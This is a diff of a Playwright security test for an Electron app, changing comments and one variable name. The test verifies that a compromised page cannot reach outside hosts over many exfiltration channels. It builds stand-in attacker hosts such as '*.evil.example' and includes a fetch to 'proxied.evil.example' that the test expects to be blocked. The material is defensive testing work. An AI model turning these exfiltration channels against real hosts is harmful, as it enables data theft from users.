@@ -1,4 +1,4 @@
-/** @file A compromised page cannot reach any host. Every channel is tried against its own listeners, and Chromium's log shows no name resolution. */
+/** @file A compromised page cannot reach any host. Each channel is tried against its own listener, and Chromium's log shows no name resolution. */
 import type { ElectronApplication } from '@playwright/test'
 import type { RunningApp } from '../harness/app'
 import type { Listeners } from '../harness/listeners'
@@ -12,7 +12,7 @@ import { tryChannel, channels } from '../harness/exfiltration'
 const names = [...channels.keys()]
 const hostOf = (kind: string, channel: string) => `${kind}-${channel}.evil.example`
 
-/** Where a channel is tried: in the page, in the page without its policy, and in an unconfined window. */
+/** The places to try each channel: the page, the page without its policy, and an unconfined window. */
 type Kind = 'page' | 'bare' | 'open'
 
 const pageId = (electron: ElectronApplication): Promise<number> =>
@@ -37,7 +37,7 @@ async function dropPolicy({ page }: RunningApp): Promise<void> {
 /** Tries all channels in an unconfined window, which proves that the listeners detect them. */
 async function tryUnconfined(electron: ElectronApplication, listeners: Listeners): Promise<void> {
   const id = await electron.evaluate(({ app, BrowserWindow }) => {
-    // Runs after the app's own listener, also for windows that this window opens.
+    // Runs after the app's own listener, including for windows that this window opens.
     app.on('web-contents-created', (_event, contents) => {
       for (const event of ['will-navigate', 'will-frame-navigate'] as const) contents.removeAllListeners(event)
       contents.setWindowOpenHandler(() => ({ action: 'allow' }))
@@ -48,15 +48,15 @@ async function tryUnconfined(electron: ElectronApplication, listeners: Listeners
   for (const channel of names) {
     await electron.evaluate(({ webContents }, [page, address]) => webContents.fromId(page)?.loadURL(address), [id, `http://127.0.0.1:${listeners.port('start')}/`] as const)
     for (const host of [hostOf('open', channel), '127.0.0.1']) await tryChannel(electron, id, channel, { host, port: listeners.port(`open ${channel}`) })
-    // The others only resolve names.
+    // The other channels only resolve names.
     if (!unreached.includes(channel)) await expect.poll(() => listeners.reached(), channel).toContain(`open ${channel}`)
   }
 }
 
-/** Electron does not act on hints to connect early. */
+/** Electron ignores hints to connect early. */
 const unreached = ['dns-prefetch', 'preconnect']
 
-/** Channels that resolve no name even in the unconfined window: the app disables the first four for all windows; the others stop earlier. */
+/** Channels that resolve no name even in the unconfined window: the app disables the first four in all windows; the others fail before resolution. */
 const unseen = ['dns-prefetch', 'webrtc-stun', 'webrtc-turn', 'webrtc-peer', 'preconnect', 'speculation', 'identity']
 
 test('a compromised page reaches no host and resolves no name, with and without its content security policy', async ({ cloud, folder, launch }) => {
@@ -88,8 +88,8 @@ test('only main uses the system\'s proxy', async ({ cloud, launch }) => {
   // The proxy resolves the names, as in proxy.spec.ts.
   const app = await launch({ switches: [...cloud.trustSwitches, `--proxy-server=127.0.0.1:${listeners.port('proxy')}`] })
   await dropPolicy(app)
-  const answer = await app.page.evaluate(() => fetch('http://proxied.evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked'))
-  expect(answer).toBe('blocked')
+  const result = await app.page.evaluate(() => fetch('http://proxied.evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked'))
+  expect(result).toBe('blocked')
   expect(listeners.reached()).toEqual([])
   await typeCredentials(app.page, cloud)
   await expect.poll(() => listeners.reached(), { timeout: 30_000 }).toEqual(['proxy'])
